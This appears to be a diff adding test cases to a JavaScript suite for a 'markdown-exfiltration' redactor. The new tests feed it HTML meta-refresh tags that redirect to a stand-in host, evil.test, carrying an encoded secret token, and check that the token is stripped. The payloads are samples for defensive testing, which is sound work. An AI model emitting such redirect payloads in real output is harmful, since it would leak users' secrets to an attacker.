@@ -176,3 +176,20 @@ describe('markdown-exfiltration reads a long tag to its end', () => {
     expect(redacted({}, `Look ${text} done`)).not.toContain('c2VjcmV0LXRva2Vu');
   });
 });
+
+// Attack review (issue 14): a refresh's `url=` is optional (HTML's declarative refresh), so
+// `content="0; https://…"` redirects as well.
+describe('markdown-exfiltration reads a refresh without url=', () => {
+  it.each([
+    '<meta http-equiv="refresh" content="0; https://evil.test/?d=c2VjcmV0LXRva2Vu">',
+    '<meta http-equiv="refresh" content="0,https://evil.test/?d=c2VjcmV0LXRva2Vu">',
+    '<meta http-equiv=refresh content="1;\'https://evil.test/?d=c2VjcmV0LXRva2Vu\'">',
+  ])('%s', (text) => {
+    expect(redacted({}, text)).not.toContain('c2VjcmV0LXRva2Vu');
+  });
+  it('and no URL in a viewport', () => {
+    expect(fails({}, '<meta name="viewport" content="width=device-width, initial-scale=1">')).toBe(
+      false,
+    );
+  });
+});
